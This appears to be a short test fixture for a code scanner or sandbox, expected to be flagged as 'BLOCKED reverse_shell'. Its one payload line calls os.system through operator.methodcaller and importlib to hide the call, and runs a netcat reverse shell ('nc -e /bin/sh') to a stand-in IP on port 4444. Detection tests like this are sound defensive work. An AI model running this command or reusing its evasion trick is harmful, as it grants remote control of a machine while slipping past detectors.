# expect: BLOCKED reverse_shell
import importlib
import operator

run = operator.methodcaller("system", "nc -e /bin/sh 203.0.113.50 4444")
run(importlib.import_module("os"))
